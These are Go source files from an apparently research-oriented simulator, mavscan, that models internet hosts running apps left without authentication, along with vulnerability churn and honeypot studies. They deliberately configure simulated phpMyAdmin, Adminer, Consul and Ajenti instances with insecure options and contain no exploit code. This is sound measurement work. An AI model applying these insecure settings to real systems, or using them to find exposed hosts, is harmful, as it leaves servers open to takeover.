		byDefault = false
	case mav.Ajenti:
		c.Options["autologin"] = vulnerable
		byDefault = false
	case mav.PhpMyAdmin:
		c.Options["allowNoPassword"] = vulnerable
		byDefault = false
	case mav.Adminer:
		c.Options["emptyDBPassword"] = vulnerable
		byDefault = byDefault && vulnerable
	default:
		c.AuthRequired = !vulnerable
		byDefault = byDefault && vulnerable
	}
	return c, byDefault
}

// tlsLikelihood returns the probability that a deployment of app serves
// TLS on its admin port, loosely shaped after Table 2's per-port protocol
// ratios.
func tlsLikelihood(app mav.App, port int) float64 {
	switch {
	case app == mav.Kubernetes:
		return 1.0 // kube-apiserver is always TLS
	case port == 443:
		return 1.0
	case port == 80:
		return 0.0
	case app == mav.Consul:
		return 0.5
	default:
		return 0.1
	}
}

// Generate builds the world. Setup work is O(strata): the layout — stratum
// counts, per-allocation quotas, and the address permutations — is all the
// state either mode needs. Eager mode then walks every (stratum, index)
// pair through the same layout.build the lazy resolver uses, so the two
// modes are observationally identical for a given seed; lazy mode instead
// installs a simnet.Resolver and returns immediately, deferring every host
// to its first probe.
func Generate(cfg Config) (*World, error) {
	cfg.fill()
	if cfg.HostileRate < 0 || cfg.HostileRate >= 1 {
		return nil, fmt.Errorf("population: HostileRate %v out of range [0, 1)", cfg.HostileRate)
	}
	db, err := scaledGeo(cfg.PopScale)
	if err != nil {
		return nil, err
	}
	ca, err := httpsim.NewCA()
	if err != nil {
		return nil, err
	}
	l, err := newLayout(cfg, db, ca)
	if err != nil {
		return nil, err
	}
	w := &World{
		Net:        simnet.New(),
		Geo:        db,
		CA:         ca,
		cfg:        cfg,
		layout:     l,
		weights:    l.weights,
		Background: int(l.background),
		Wildcard:   int(l.wildcard),
		Hostile:    int(l.hostile),
	}
	if cfg.Lazy {
		w.cache = newHostCache(cfg.CacheHosts)
		w.Net.SetResolver(&lazyResolver{w: w})
		return w, nil
	}
	// Eager walk. Specs is preallocated to its exact final size so the
	// byIP pointers into it stay valid as it fills.
	w.Specs = make([]HostSpec, 0, l.appHosts)
	w.byIP = make(map[netip.Addr]*HostSpec, l.appHosts)
	for s := range l.strata {
		st := &l.strata[s]
		for idx := uint64(0); idx < st.count; idx++ {
			ip := l.addrOf(s, idx)
			host, spec, err := l.build(s, idx, ip)
			if err != nil {
				return nil, err
			}
			if err := w.Net.AddHost(host); err != nil {
				return nil, err
			}
			if spec != nil {
				w.Specs = append(w.Specs, *spec)
				w.byIP[ip] = &w.Specs[len(w.Specs)-1]
			}
		}
	}
	return w, nil
}

// httpsimPlain and httpsimTLS are small indirection helpers so churn can
// rebind upgraded instances.
func httpsimPlain(inst *apps.Instance) simnet.ConnHandler {
	return httpsim.ConnHandler(inst.Handler())
}

func httpsimTLS(inst *apps.Instance, cert tls.Certificate) simnet.ConnHandler {
	return httpsim.TLSConnHandler(inst.Handler(), cert)
}
