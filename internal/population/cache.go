package population

import (
	"sync"

	"mavscan/internal/simnet"
	"mavscan/internal/telemetry"
)

// hostCache is the bounded materialization table of the lazy world: the only
// population state whose size grows with probing rather than with the layout.
// It is sharded 64 ways by a splitmix64 hash of the address so concurrent
// scan workers rarely contend on one lock, and each shard evicts in FIFO
// order of first materialization — a deterministic policy, so two runs that
// probe the same address sequence hold exactly the same resident set at
// every point, which keeps lazy scans reproducible even under eviction.
//
// Entries can be pinned: pinned hosts (the churn-mutation targets returned
// by VulnerableSpecs) are never evicted, because churn mutates their
// in-memory state and a rebuilt copy would forget the mutation. Pinned
// entries may push a shard past its nominal cap; everything else stays
// bounded by cap.
type hostCache struct {
	shardCap int
	// gauge mirrors the resident entry count for the operations plane
	// (mavscan_population_resident_hosts). The nil gauge no-ops, so the
	// cache pays one nil check per materialization when uninstrumented.
	gauge  *telemetry.Gauge
	shards [cacheShards]cacheShard
}

const cacheShards = 64

type cacheEntry struct {
	host   *simnet.Host
	spec   *HostSpec
	pinned bool
}

type cacheShard struct {
	mu      sync.Mutex
	entries map[uint32]*cacheEntry
	// order is the FIFO eviction queue of unpinned keys; head indexes the
	// oldest live element (popped entries are not shifted, the slice is
	// compacted when the dead prefix grows large).
	order []uint32
	head  int
	// pinned counts pinned entries; they extend the shard's bound so pins
	// never force out the whole unpinned working set.
	pinned int
}

// newHostCache builds a cache holding about capHosts hosts across all
// shards (pinned entries excluded from the budget).
func newHostCache(capHosts int) *hostCache {
	perShard := capHosts / cacheShards
	if perShard < 1 {
		perShard = 1
	}
	return &hostCache{shardCap: perShard}
}

func (c *hostCache) shardFor(key uint32) *cacheShard {
	return &c.shards[splitmix64(uint64(key))&(cacheShards-1)]
}

// getOrCreate returns the entry for key, materializing it with build on
// first use. build runs under the shard lock, so concurrent probes of the
// same address observe one materialization and share one *simnet.Host —
// the identity guarantee simnet.Resolver requires.
func (c *hostCache) getOrCreate(key uint32, build func() (*simnet.Host, *HostSpec, error), pin bool) (*cacheEntry, error) {
	sh := c.shardFor(key)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	if sh.entries == nil {
		sh.entries = make(map[uint32]*cacheEntry)
	}
	if e, ok := sh.entries[key]; ok {
		if pin && !e.pinned {
			e.pinned = true // promotion leaves a stale queue slot; evict skips it
			sh.pinned++
		}
		return e, nil
	}
	host, spec, err := build()
	if err != nil {
		return nil, err
	}
	e := &cacheEntry{host: host, spec: spec, pinned: pin}
	sh.entries[key] = e
	c.gauge.Add(1)
	if pin {
		sh.pinned++
	} else {
		sh.order = append(sh.order, key)
	}
	sh.evictLocked(c.shardCap, c.gauge)
	return e, nil
}

// evictLocked pops FIFO queue heads until the shard is back under its bound
// (the nominal cap plus the pinned population). Keys whose entries were
// pinned after enqueueing are skipped — their stale queue slot is simply
// consumed; pinned entries never return to the queue.
func (sh *cacheShard) evictLocked(nominal int, gauge *telemetry.Gauge) {
	bound := nominal + sh.pinned
	for len(sh.entries) > bound && sh.head < len(sh.order) {
		key := sh.order[sh.head]
		sh.head++
		if e, ok := sh.entries[key]; ok && !e.pinned {
			delete(sh.entries, key)
			gauge.Sub(1)
		}
	}
	// Compact the consumed prefix once it dominates the queue.
	if sh.head > 1024 && sh.head*2 > len(sh.order) {
		sh.order = append(sh.order[:0], sh.order[sh.head:]...)
		sh.head = 0
	}
}

// len returns the number of resident entries (for stats and tests).
func (c *hostCache) len() int {
	n := 0
	for i := range c.shards {
		sh := &c.shards[i]
		sh.mu.Lock()
		n += len(sh.entries)
		sh.mu.Unlock()
	}
	return n
}

// drop removes key if resident and unpinned — a test hook for exercising
// re-materialization determinism.
func (c *hostCache) drop(key uint32) {
	sh := c.shardFor(key)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	if e, ok := sh.entries[key]; ok && !e.pinned {
		delete(sh.entries, key)
		c.gauge.Sub(1)
	}
}
