package population

import (
	"context"
	"net/netip"
	"testing"

	"mavscan/internal/adversary"
	"mavscan/internal/mav"
)

func hostileConfig(seed int64, rate float64) Config {
	c := smallConfig(seed)
	c.HostileRate = rate
	return c
}

func TestHostileRateValidation(t *testing.T) {
	for _, rate := range []float64{-0.1, 1, 1.5} {
		if _, err := Generate(hostileConfig(1, rate)); err == nil {
			t.Errorf("HostileRate %v accepted, want rejection", rate)
		}
	}
}

func TestHostileStratumCounts(t *testing.T) {
	w, err := Generate(hostileConfig(3, 0.1))
	if err != nil {
		t.Fatal(err)
	}
	if w.Hostile == 0 {
		t.Fatal("HostileRate 0.1 produced no hostile hosts")
	}
	got := float64(w.Hostile) / float64(w.TotalHosts())
	if got < 0.05 || got > 0.15 {
		t.Errorf("hostile fraction = %v, want ~0.1", got)
	}
	hosts := w.HostileHosts()
	if len(hosts) != w.Hostile {
		t.Fatalf("HostileHosts returned %d entries, want %d", len(hosts), w.Hostile)
	}
	ports := map[int]bool{}
	for _, p := range mav.ScanPorts() {
		ports[p] = true
	}
	for _, h := range hosts {
		if h.Archetype >= adversary.NumArchetypes {
			t.Errorf("%s: archetype %d out of range", h.IP, h.Archetype)
		}
		if !ports[h.Port] {
			t.Errorf("%s: port %d is not a scan port", h.IP, h.Port)
		}
		// Hostile hosts are infrastructure, not app ground truth.
		if spec, ok := w.SpecFor(h.IP); ok {
			t.Errorf("%s: hostile host has an app spec (%s)", h.IP, spec.App)
		}
		// The generated network really serves the archetype at that address.
		if _, ok := w.Net.Host(h.IP); !ok {
			t.Errorf("%s: hostile host missing from the network", h.IP)
		}
	}
}

// TestHostileDoesNotPerturbBenign is the seed-stability half of the
// acceptance criterion: seeding adversaries must leave every benign host —
// address, app, port, TLS identity, version, ground truth — untouched.
func TestHostileDoesNotPerturbBenign(t *testing.T) {
	clean, err := Generate(hostileConfig(7, 0))
	if err != nil {
		t.Fatal(err)
	}
	dirty, err := Generate(hostileConfig(7, 0.2))
	if err != nil {
		t.Fatal(err)
	}
	if clean.Hostile != 0 || len(clean.HostileHosts()) != 0 {
		t.Fatalf("rate-0 world has %d hostile hosts", clean.Hostile)
	}
	if dirty.Background != clean.Background || dirty.Wildcard != clean.Wildcard {
		t.Errorf("background/wildcard counts changed: %d/%d vs %d/%d",
			dirty.Background, dirty.Wildcard, clean.Background, clean.Wildcard)
	}
	if len(dirty.Specs) != len(clean.Specs) {
		t.Fatalf("app-host count changed: %d vs %d", len(dirty.Specs), len(clean.Specs))
	}
	for i := range clean.Specs {
		a, b := &clean.Specs[i], &dirty.Specs[i]
		if a.IP != b.IP || a.App != b.App || a.Port != b.Port || a.TLS != b.TLS ||
			a.Domain != b.Domain || a.Version != b.Version ||
			a.Vulnerable != b.Vulnerable || a.ByDefault != b.ByDefault {
			t.Fatalf("spec %d diverged:\n  clean: %+v\n  dirty: %+v", i, *a, *b)
		}
	}
	benign := map[netip.Addr]bool{}
	for i := range clean.Specs {
		benign[clean.Specs[i].IP] = true
	}
	for _, h := range dirty.HostileHosts() {
		if benign[h.IP] {
			t.Errorf("hostile host %s collides with a benign app host", h.IP)
		}
	}
}

// TestHostileEagerLazyAgree checks the (seed, address) purity of the
// hostile stratum: both world modes derive the same adversaries.
func TestHostileEagerLazyAgree(t *testing.T) {
	eager, err := Generate(hostileConfig(11, 0.15))
	if err != nil {
		t.Fatal(err)
	}
	lcfg := hostileConfig(11, 0.15)
	lcfg.Lazy = true
	lazy, err := Generate(lcfg)
	if err != nil {
		t.Fatal(err)
	}
	eh, lh := eager.HostileHosts(), lazy.HostileHosts()
	if len(eh) == 0 || len(eh) != len(lh) {
		t.Fatalf("hostile counts disagree: eager %d, lazy %d", len(eh), len(lh))
	}
	for i := range eh {
		if eh[i] != lh[i] {
			t.Fatalf("hostile host %d diverged: eager %+v, lazy %+v", i, eh[i], lh[i])
		}
	}
	// A lazily materialized hostile address must accept a connection on its
	// drawn port, like its eager twin.
	h := lh[0]
	conn, err := lazy.Net.Dial(context.Background(), h.IP, h.Port)
	if err != nil {
		t.Fatalf("dial lazy hostile %s:%d: %v", h.IP, h.Port, err)
	}
	conn.Close()
}
