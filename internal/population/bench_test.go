package population

import (
	"fmt"
	"runtime"
	"testing"
)

// heapInUse forces a collection and returns the live heap, so setup
// benchmarks can report how much world a configuration keeps resident.
func heapInUse() uint64 {
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	return ms.HeapInuse
}

// BenchmarkWorldSetup measures Generate: the eager walk materializes every
// host up front, the lazy path only computes the O(strata) layout, so the
// lazy series should stay flat — in both time and the reported heap-bytes
// — as PopScale grows three orders of magnitude.
func BenchmarkWorldSetup(b *testing.B) {
	cases := []struct {
		name string
		cfg  Config
	}{
		{"eager-1x", Config{Seed: 41}},
		{"lazy-1x", Config{Seed: 41, Lazy: true}},
		{"lazy-100x", Config{Seed: 41, Lazy: true, PopScale: 100}},
		{"lazy-1000x", Config{Seed: 41, Lazy: true, PopScale: 1000}},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			base := heapInUse()
			var w *World
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				var err error
				w, err = Generate(c.cfg)
				if err != nil {
					b.Fatal(err)
				}
			}
			b.StopTimer()
			after := heapInUse()
			if after > base {
				b.ReportMetric(float64(after-base), "heap-bytes")
			} else {
				b.ReportMetric(0, "heap-bytes")
			}
			if w.TotalHosts() == 0 {
				b.Fatal("empty world")
			}
		})
	}
}

// BenchmarkScanProbeThroughput drives the Stage-I hot path — ProbePort
// against addresses scattered across the whole plan — through eager and
// lazy worlds. Eager hits the atomic page table; lazy adds the occupancy
// arithmetic on misses and the cache on hits. Eager variants beyond 1× are
// omitted: at 100× the up-front world alone exceeds the benchmark's
// memory budget, which is the point of the lazy design.
func BenchmarkScanProbeThroughput(b *testing.B) {
	cases := []struct {
		name string
		cfg  Config
	}{
		{"eager-1x", Config{Seed: 42}},
		{"lazy-1x", Config{Seed: 42, Lazy: true}},
		{"lazy-100x", Config{Seed: 42, Lazy: true, PopScale: 100}},
		{"lazy-1000x", Config{Seed: 42, Lazy: true, PopScale: 1000}},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			w, err := Generate(c.cfg)
			if err != nil {
				b.Fatal(err)
			}
			l := w.layout
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				a := &l.allocs[i%len(l.allocs)]
				ip := keyAddr(a.start + uint32(splitmix64(uint64(i))%a.size))
				_ = w.Net.ProbePort(ip, 80)
			}
			b.StopTimer()
			b.ReportMetric(float64(w.MaterializedHosts()), "resident-hosts")
		})
	}
}

// BenchmarkLocate isolates the pure occupancy index: classifying an
// arbitrary address as (stratum, index) or empty with no locks and no
// allocation. This is the per-probe overhead a lazy miss adds to Stage I.
func BenchmarkLocate(b *testing.B) {
	for _, scale := range []int{1, 1000} {
		b.Run(fmt.Sprintf("scale-%dx", scale), func(b *testing.B) {
			cfg := Config{Seed: 43, Lazy: true, PopScale: scale}
			w, err := Generate(cfg)
			if err != nil {
				b.Fatal(err)
			}
			l := w.layout
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				a := &l.allocs[i%len(l.allocs)]
				ip := keyAddr(a.start + uint32(splitmix64(uint64(i))%a.size))
				l.locate(ip)
			}
		})
	}
}
