package population

import (
	"math/rand"
	"time"

	"mavscan/internal/apps"
	"mavscan/internal/mav"
	"mavscan/internal/simtime"
)

// Churn models how the vulnerable population evolves during the four-week
// observation window (Figure 2): most hosts stay vulnerable, a large share
// goes offline or gets firewalled, a tiny share gets fixed (mostly CMS
// installations being completed), and a few hosts update their software
// without fixing the MAV.
//
// The hazard curve is calibrated to the published numbers: ~10% of hosts
// no longer vulnerable within the first six hours, roughly 5-10% decay per
// week afterwards, 53% still vulnerable after four weeks, 3.2% fixed,
// 43.2% offline/firewalled, 2.4% updated. Insecure-by-default hosts are
// taken down faster on the first day; explicitly-modified hosts are a bit
// more likely to be fixed than taken offline.
type ChurnConfig struct {
	Seed int64
	// Start is the beginning of the observation window.
	Start time.Time
	// Duration defaults to four weeks.
	Duration time.Duration
}

// deathCurve is the piecewise-linear CDF of "host stops being vulnerable"
// over the four-week window, in (hour, cumulative fraction) points.
var deathCurve = []struct {
	hour float64
	frac float64
}{
	{0, 0},
	{6, 0.10},
	{168, 0.20},
	{336, 0.32},
	{504, 0.40},
	{672, 0.47},
}

// sampleDeathHour inverts the death curve for a uniform draw u in [0,1).
// ok is false when the host survives the whole window.
func sampleDeathHour(u float64) (float64, bool) {
	last := deathCurve[len(deathCurve)-1]
	if u >= last.frac {
		return 0, false
	}
	for i := 1; i < len(deathCurve); i++ {
		lo, hi := deathCurve[i-1], deathCurve[i]
		if u < hi.frac {
			span := hi.frac - lo.frac
			t := (u - lo.frac) / span
			return lo.hour + t*(hi.hour-lo.hour), true
		}
	}
	return 0, false
}

// ScheduleChurn installs the lifecycle events for every vulnerable host of
// the world onto the simulated clock. It returns the number of scheduled
// fixes, offline events and updates (ground truth for tests).
func ScheduleChurn(sim *simtime.Sim, w *World, cfg ChurnConfig) (fixes, offlines, updates int) {
	if cfg.Duration == 0 {
		cfg.Duration = 28 * 24 * time.Hour
	}
	rng := rand.New(rand.NewSource(cfg.Seed))
	for _, spec := range w.VulnerableSpecs() {
		spec := spec
		info := mav.MustLookup(spec.App)

		u := rng.Float64()
		// Insecure-by-default hosts disappear faster on day one: shift
		// their draw slightly toward death.
		if spec.ByDefault {
			u *= 0.93
		}
		// Notebooks stay vulnerable for much longer, CI decays fastest.
		switch info.Category {
		case mav.NB:
			u = u*0.85 + 0.15*1.0
		case mav.CI:
			u *= 0.80
		}
		hour, dies := sampleDeathHour(u)
		if dies {
			at := cfg.Start.Add(time.Duration(hour * float64(time.Hour)))
			// Deciding between "fixed" and "offline": fixes are rare
			// overall (~7% of deaths) but dominate the CMS category, where
			// completing the installation closes the MAV; explicitly
			// modified deployments get fixed slightly more often.
			pFix := 0.03
			if info.Kind == mav.KindInstall {
				pFix = 0.35
			} else if !spec.ByDefault {
				pFix = 0.06
			}
			if rng.Float64() < pFix {
				fixes++
				sim.At(at, func(time.Time) { fixSpec(spec) })
			} else {
				offlines++
				host, ok := w.Net.Host(spec.IP)
				if !ok {
					continue
				}
				firewall := rng.Float64() < 0.5
				sim.At(at, func(time.Time) {
					if firewall {
						host.SetFirewalled(true)
					} else {
						host.SetOnline(false)
					}
				})
			}
			continue
		}
		// Survivors: a small share updates the software version without
		// remediating the MAV (2.4% of all vulnerable hosts).
		if rng.Float64() < 0.075 { // ≈2.4% of all hosts after no-op upgrades
			hour := rng.Float64() * cfg.Duration.Hours()
			at := cfg.Start.Add(time.Duration(hour * float64(time.Hour)))
			updates++
			sim.At(at, func(time.Time) { upgradeSpec(w, spec) })
		}
	}
	return fixes, offlines, updates
}

// fixSpec remediates the MAV in the application-appropriate way.
func fixSpec(spec *HostSpec) {
	switch spec.App {
	case mav.WordPress, mav.Grav, mav.Joomla, mav.Drupal:
		// The owner (or an attacker...) completes the installation.
		spec.Instance.CompleteInstall("", "owner-password")
	case mav.Consul:
		spec.Instance.SetOption("enableScriptChecks", false)
		spec.Instance.SetOption("enableRemoteScriptChecks", false)
	case mav.Ajenti:
		spec.Instance.SetOption("autologin", false)
	case mav.PhpMyAdmin:
		spec.Instance.SetOption("allowNoPassword", false)
	case mav.Adminer:
		spec.Instance.SetOption("emptyDBPassword", false)
	default:
		spec.Instance.SetAuthRequired(true)
	}
}

// upgradeSpec replaces the instance with the latest release, keeping the
// vulnerable configuration (updated but still exposed).
func upgradeSpec(w *World, spec *HostSpec) {
	latest := apps.LatestVersion(spec.App)
	if latest == spec.Version {
		return
	}
	// Adminer's and Joomla's MAVs disappear on upgrade (the new releases
	// enforce the countermeasure); owners of those do not "update without
	// fixing", so skip them.
	if spec.App == mav.Adminer || spec.App == mav.Joomla {
		return
	}
	cfg := apps.Config{
		App:          spec.App,
		Version:      latest,
		Installed:    spec.Instance.Installed(),
		AuthRequired: spec.Instance.AuthRequired(),
		Options:      map[string]bool{},
	}
	for _, opt := range []string{"enableScriptChecks", "enableRemoteScriptChecks", "autologin", "allowNoPassword", "emptyDBPassword"} {
		if spec.Instance.Option(opt) {
			cfg.Options[opt] = true
		}
	}
	inst, err := apps.New(cfg)
	if err != nil {
		return
	}
	host, ok := w.Net.Host(spec.IP)
	if !ok {
		return
	}
	// Rebind the port with the upgraded instance.
	spec.Instance = inst
	spec.Version = latest
	if spec.TLS {
		cert, err := w.CA.CertFor(spec.Domain, spec.IP.String())
		if err != nil {
			return
		}
		host.Bind(spec.Port, httpsimTLS(inst, cert))
	} else {
		host.Bind(spec.Port, httpsimPlain(inst))
	}
}
