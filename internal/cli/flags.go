package cli

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"os/signal"
	"syscall"
	"time"

	"mavscan/internal/faults"
	"mavscan/internal/obs"
	"mavscan/internal/orchestrator"
	"mavscan/internal/resilience"
	"mavscan/internal/scanner"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

// newFlagSet returns the standard per-command flag set: errors print to
// stderr and return to the caller instead of exiting the process.
func newFlagSet(name string, stderr io.Writer) *flag.FlagSet {
	fs := flag.NewFlagSet("mav "+name, flag.ContinueOnError)
	fs.SetOutput(stderr)
	return fs
}

// opsFlags are the operations-plane flags every long-running command
// shares: -metrics, -serve, -linger.
type opsFlags struct {
	metrics *bool
	serve   *string
	linger  *bool
}

func bindOps(fs *flag.FlagSet, example string) *opsFlags {
	return &opsFlags{
		metrics: fs.Bool("metrics", false, "enable telemetry: live progress on stderr, Prometheus snapshot after the output"),
		serve:   fs.String("serve", "", "serve the operations plane on this loopback address, e.g. "+example+" (implies -metrics)"),
		linger:  fs.Bool("linger", false, "with -serve: keep serving after the run completes until interrupted"),
	}
}

// registry builds the telemetry registry (nil when telemetry is off) and
// starts the stderr progress ticker; stop flushes and halts the ticker.
func (o *opsFlags) registry(stderr io.Writer, fields []obs.Field) (reg *telemetry.Registry, stop func()) {
	if !*o.metrics && *o.serve == "" {
		return nil, func() {}
	}
	reg = telemetry.New(simtime.Wall{})
	done := make(chan struct{})
	go obs.ProgressLoop(stderr, reg, fields, simtime.Wall{}, 200*time.Millisecond, done)
	return reg, func() { close(done) }
}

// servePlane starts the operations plane when -serve is set. Routes may
// mount extra handlers (the fabric coordinator's wire endpoints) on the
// same loopback listener. Callers must Close the returned server; a nil
// server with nil error means -serve was not requested.
func (o *opsFlags) servePlane(stderr io.Writer, name string, cfg obs.Config) (*obs.Server, error) {
	if *o.serve == "" {
		return nil, nil
	}
	lis, err := obs.Listen(*o.serve)
	if err != nil {
		return nil, err
	}
	srv := obs.Serve(lis, cfg)
	fmt.Fprintf(stderr, "%s: operations plane on http://%s\n", name, srv.Addr())
	return srv, nil
}

// lingerWait blocks until interrupted when -linger is set on a served
// plane, so scrapers can read the final state.
func (o *opsFlags) lingerWait(stderr io.Writer, name string, srv *obs.Server) {
	if !*o.linger || srv == nil {
		return
	}
	fmt.Fprintf(stderr, "%s: lingering on http://%s (interrupt to exit)\n", name, srv.Addr())
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
	<-sig
}

// faultFlags are the fault-injection flags shared by the scanning
// commands: a -faults spec plus the -retries budget it activates.
type faultFlags struct {
	spec    *string
	retries *int
}

func bindFaults(fs *flag.FlagSet, example string) *faultFlags {
	return &faultFlags{
		spec:    fs.String("faults", "", "inject deterministic transient faults, e.g. "+example),
		retries: fs.Int("retries", 3, "max attempts per HTTP-stage request when -faults is set (1 disables retries)"),
	}
}

func (f *faultFlags) parse() (faults.Config, resilience.Policy, error) {
	cfg, err := faults.ParseFlag(*f.spec)
	if err != nil {
		return faults.Config{}, resilience.Policy{}, err
	}
	var policy resilience.Policy
	if cfg.Enabled() && *f.retries > 1 {
		policy = resilience.Policy{MaxAttempts: *f.retries, JitterSeed: uint64(cfg.Seed)}
	}
	return cfg, policy, nil
}

// checkpointFlags are the journal flags shared by scan and coordinate.
type checkpointFlags struct {
	path   *string
	resume *bool
	every  *uint64
}

func bindCheckpoint(fs *flag.FlagSet) *checkpointFlags {
	return &checkpointFlags{
		path:   fs.String("checkpoint", "", "journal per-segment progress to this file (JSONL), enabling -resume"),
		resume: fs.Bool("resume", false, "resume from the -checkpoint journal, skipping completed segments"),
		every:  fs.Uint64("checkpoint-every", 0, "checkpoint granularity in addresses per segment (0 = one segment per shard)"),
	}
}

// open validates the flag combination and opens the journal. The store is
// nil when checkpointing is off; callers must Close a non-nil store.
func (c *checkpointFlags) open() (orchestrator.Checkpoint, *orchestrator.FileStore, error) {
	if *c.resume && *c.path == "" {
		return orchestrator.Checkpoint{}, nil, fmt.Errorf("-resume requires -checkpoint")
	}
	if *c.path == "" {
		return orchestrator.Checkpoint{}, nil, nil
	}
	store, err := orchestrator.OpenFileStore(*c.path)
	if err != nil {
		return orchestrator.Checkpoint{}, nil, err
	}
	return orchestrator.Checkpoint{Store: store, Every: *c.every, Resume: *c.resume}, store, nil
}

// writeReportJSON writes the canonical machine-readable report — Elapsed
// zeroed, so two runs of the same plan compare byte-for-byte. The CI
// fabric smoke diffs these files across process topologies.
func writeReportJSON(path string, rep *scanner.Report) error {
	cp := *rep
	cp.Stats.Elapsed = 0
	data, err := json.Marshal(&cp)
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(data, '\n'), 0o644)
}
