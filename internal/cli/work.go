package cli

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/signal"
	"syscall"

	"mavscan/internal/fabric"
	"mavscan/internal/orchestrator"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

// runWork is "mav work": one fabric worker process. It joins the
// coordinator at -coordinator, regenerates the world from the shipped
// spec, and scans leased segments until the plan completes. Exit codes:
// 0 done, 1 error, 3 killed by the coordinator's fault schedule (a
// supervisor distinguishing injected kills from crashes can respawn on
// 3 unconditionally).
func runWork(args []string, stdout, stderr io.Writer) int {
	fs := newFlagSet("work", stderr)
	var (
		addr    = fs.String("coordinator", "", "coordinator address (loopback only), e.g. 127.0.0.1:8070")
		id      = fs.String("id", "", "worker ID, unique per live worker (default w<pid>)")
		journal = fs.String("journal", "", "additionally journal completed segments to this local file (JSONL)")
		metrics = fs.Bool("metrics", false, "print a Prometheus telemetry snapshot on exit")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *addr == "" {
		fmt.Fprintln(stderr, "mav work: -coordinator is required")
		return 2
	}
	if *id == "" {
		*id = fmt.Sprintf("w%d", os.Getpid())
	}

	transport, err := fabric.DialLoopback(*addr)
	if err != nil {
		fmt.Fprintln(stderr, "mav work:", err)
		return 2
	}
	var store orchestrator.Store
	if *journal != "" {
		fileStore, err := orchestrator.OpenFileStore(*journal)
		if err != nil {
			fmt.Fprintln(stderr, "mav work:", err)
			return 1
		}
		defer fileStore.Close()
		store = fileStore
	}
	var reg *telemetry.Registry
	if *metrics {
		reg = telemetry.New(simtime.Wall{})
	}

	worker, err := fabric.NewWorker(fabric.WorkerConfig{
		ID:        *id,
		Transport: transport,
		Store:     store,
		Telemetry: reg,
	})
	if err != nil {
		fmt.Fprintln(stderr, "mav work:", err)
		return 1
	}

	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
	defer stop()
	fmt.Fprintf(stdout, "worker %s joining %s...\n", *id, *addr)
	runErr := worker.Run(ctx)

	if reg != nil {
		fmt.Fprintln(stdout, "=== Telemetry snapshot ===")
		if err := reg.WriteProm(stdout); err != nil {
			fmt.Fprintln(stderr, "mav work:", err)
		}
	}
	switch {
	case runErr == nil:
		fmt.Fprintf(stdout, "worker %s: plan complete\n", *id)
		return 0
	case errors.Is(runErr, fabric.ErrKilled):
		fmt.Fprintf(stderr, "mav work: worker %s killed by fault schedule\n", *id)
		return 3
	default:
		fmt.Fprintln(stderr, "mav work:", runErr)
		return 1
	}
}
