package cli

import (
	"context"
	"fmt"
	"io"
	"os"
	"time"

	"mavscan/internal/analysis"
	"mavscan/internal/mav"
	"mavscan/internal/population"
	"mavscan/internal/report"
	"mavscan/internal/secscan"
	"mavscan/internal/study"
)

// runReport is "mav report": every table and figure of the paper in one
// run — scanning (Tables 1-4, Figure 1), longevity (Figure 2), honeypot
// (Tables 5-8, Figures 3-4), defenders (RQ7) and the summary (Table 9).
func runReport(args []string, stdout, stderr io.Writer) int {
	fs := newFlagSet("report", stderr)
	var (
		seed      = fs.Int64("seed", 1, "seed for all randomized stages")
		hostScale = fs.Int("host-scale", 4000, "divisor for the secure host counts")
		vulnScale = fs.Int("vuln-scale", 8, "divisor for the MAV counts")
		interval  = fs.Duration("interval", 6*time.Hour, "longevity observation cadence")
		fast      = fs.Bool("fast", false, "smaller world and coarser cadence")
		jsonPath  = fs.String("json", "", "also write machine-readable results to this file")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *fast {
		*hostScale, *vulnScale, *interval = 40000, 40, 24*time.Hour
	}
	w := stdout

	// --- Section 2: manual investigation ---
	report.Table1(w)
	fmt.Fprintln(w)

	// --- Section 3: prevalence ---
	fmt.Fprintln(w, "== scanning study ==")
	scan, err := study.RunScan(context.Background(), study.ScanConfig{
		Population: population.Config{
			Seed:            *seed,
			HostScale:       *hostScale,
			VulnScale:       *vulnScale,
			BackgroundScale: 200000,
			WildcardScale:   200000,
		},
	})
	if err != nil {
		fmt.Fprintln(stderr, "mav report:", err)
		return 1
	}
	report.Table2(w, scan.Report)
	fmt.Fprintln(w)
	report.Table3(w, scan)
	fmt.Fprintln(w)
	report.Table4(w, scan, 5)
	fmt.Fprintln(w)
	report.Figure1(w, analysis.Figure1(scan.Report.Apps, population.ScanDate, mav.JupyterNotebook, mav.Hadoop))
	fmt.Fprintln(w)

	// --- Section 3.3 RQ3: longevity ---
	fmt.Fprintln(w, "== longevity study ==")
	res, err := study.RunLongevity(context.Background(), study.LongevityConfig{Scan: scan, Seed: *seed, Interval: *interval})
	if err != nil {
		fmt.Fprintln(stderr, "mav report:", err)
		return 1
	}
	report.Figure2(w, res)
	fmt.Fprintln(w)

	// --- Section 4: attacker awareness ---
	fmt.Fprintln(w, "== honeypot study ==")
	hs, err := study.RunHoneypots(context.Background(), study.HoneypotConfig{Seed: *seed})
	if err != nil {
		fmt.Fprintln(stderr, "mav report:", err)
		return 1
	}
	report.Table5(w, hs.Attacks)
	fmt.Fprintln(w)
	report.Table6(w, analysis.Table6(hs.Attacks, hs.Start))
	fmt.Fprintln(w)
	report.Table7(w, analysis.Table7(hs.Attacks, hs.Geo), 10)
	fmt.Fprintln(w)
	report.Table8(w, analysis.Table8(hs.Attacks, hs.Geo), 5)
	fmt.Fprintln(w)
	report.Figure3(w, analysis.Figure3(hs.Attacks, hs.Start))
	fmt.Fprintln(w)
	report.Figure4(w, hs.Clusters)
	fmt.Fprintln(w)

	// --- Section 5: defender awareness ---
	fmt.Fprintln(w, "== defender study ==")
